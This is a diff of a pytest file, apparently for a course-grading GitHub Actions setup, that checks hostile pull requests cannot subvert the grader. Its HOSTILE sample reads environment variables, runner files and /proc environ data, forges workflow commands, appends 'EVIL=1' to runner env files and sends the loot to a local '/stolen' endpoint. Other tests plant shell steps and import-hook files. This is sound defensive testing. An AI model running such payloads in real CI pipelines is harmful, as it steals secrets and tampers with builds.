@@ -136,7 +136,10 @@ class School:
 
 
 pytestmark = pytest.mark.journey
-NO_RUNNER = "**On a GPU:** Not run: this class has no GPU runner (the repository variable GPU_RUNNER is empty)."
+NO_RUNNER = (
+    "**On a GPU:** Not run: this class has no GPU runner (the repository variable GPU_RUNNER "
+    "is empty)."
+)
 TO_THE_RUNNER = re.compile(r"(?m)^\s*::|##\[")  # what a step may say to it through its output
 
 
@@ -254,14 +257,21 @@ def test_editing_the_workflow_and_the_grader_changes_nothing(
     ran = tmp_path / "ran"
     program, shell = f"open({str(ran)!r}, 'w').write('ran')\n", f"touch {ran}\n"
     programs = (
-        "grader/__init__.py", "manyheads/cli/__init__.py", "grader/checks/conftest.py", "conftest.py", "sitecustomize.py",
-        "torch.py", "exercises/averages/conftest.py",
-    )  # fmt: skip
+        "grader/__init__.py",
+        "manyheads/cli/__init__.py",
+        "grader/checks/conftest.py",
+        "conftest.py",
+        "sitecustomize.py",
+        "torch.py",
+        "exercises/averages/conftest.py",
+    )
     changes = {
         WORKFLOW: (REPOSITORY / WORKFLOW)
         .read_text()
         .replace("run: sh course/tools/allow-namespaces", f"run: {shell}"),
-        ".github/workflows/mine.yml": f"on: pull_request\njobs: {{x: {{steps: [{{run: '{shell}'}}]}}}}\n",
+        ".github/workflows/mine.yml": (
+            f"on: pull_request\njobs: {{x: {{steps: [{{run: '{shell}'}}]}}}}\n"
+        ),
         **dict.fromkeys(programs, program),
         "course.yaml": "title: Mine\n",
         "requirements.txt": "./evil\n",
@@ -281,18 +291,22 @@ HOSTILE = """
 import glob, os, socket, sys
 
 LOOT = " ".join(os.environ.values())
-for word in ("::set-output name=hygiene::clean", "::add-mask::4", "::stop-commands::x", "::error::x", "##[error]x"):
+for word in ("::set-output name=hygiene::clean", "::add-mask::4", "::stop-commands::x", \
+"::error::x", "##[error]x"):
     print(word, flush=True)
     print(word, file=sys.stderr, flush=True)
-files = [os.environ.get(name, "") for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY")]
-for path in (*files, "/proc/self/environ", "/proc/1/environ", *glob.glob("FOLDER/**", recursive=True)):
+files = [os.environ.get(name, "") for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", \
+"GITHUB_STEP_SUMMARY")]
+for path in (*files, "/proc/self/environ", "/proc/1/environ", *glob.glob("FOLDER/**", \
+recursive=True)):
     try:
         LOOT += open(path, errors="replace").read()
         open(path, "a").write("hygiene=clean\\nEVIL=1\\n")
     except OSError:
         pass
 try:
-    socket.create_connection(("127.0.0.1", PORT), 1).sendall(f"GET /stolen?{LOOT!r} HTTP/1.0\\r\\n\\r\\n".encode())
+    socket.create_connection(("127.0.0.1", PORT), 1).sendall(f"GET /stolen?{LOOT!r} \
+HTTP/1.0\\r\\n\\r\\n".encode())
 except OSError:
     pass
 
@@ -301,7 +315,8 @@ class Teacher(ValueError):
     pass
 
 
-Teacher.__name__ = Teacher.__qualname__ = "</pre></details> @teacher ![x](https://example.org/x.png) #1"
+Teacher.__name__ = Teacher.__qualname__ = "</pre></details> @teacher \
+![x](https://example.org/x.png) #1"
 
 
 def running_mean(x):
@@ -355,11 +370,23 @@ def take_away(school: School, event: dict[str, Any]) -> None:
 
 COLLECTS = "Collect the exercise files"
 LACKING: dict[str, tuple[Callable[[School, dict[str, Any]], object], str, str]] = {
-    "a branch in place of a commit": (lambda s, e: setattr(s, "course_ref", "main"), "Demand that the course is pinned to a commit", "not yours"),
-    "a key that opens nothing": (lambda s, e: setattr(s, "course_key", "another"), "Fetch the private course", "not yours"),
+    "a branch in place of a commit": (
+        lambda s, e: setattr(s, "course_ref", "main"),
+        "Demand that the course is pinned to a commit",
+        "not yours",
+    ),
+    "a key that opens nothing": (
+        lambda s, e: setattr(s, "course_key", "another"),
+        "Fetch the private course",
+        "not yours",
+    ),
     "no user namespaces": (forbid_namespaces, "Allow user namespaces", "not yours"),
-    "files that cannot be fetched": (take_away, COLLECTS, "The files of this pull request could not be read."),
-}  # fmt: skip
+    "files that cannot be fetched": (
+        take_away,
+        COLLECTS,
+        "The files of this pull request could not be read.",
+    ),
+}
 
 
 @pytest.mark.parametrize(("set_up", "failed", "says"), LACKING.values(), ids=LACKING)
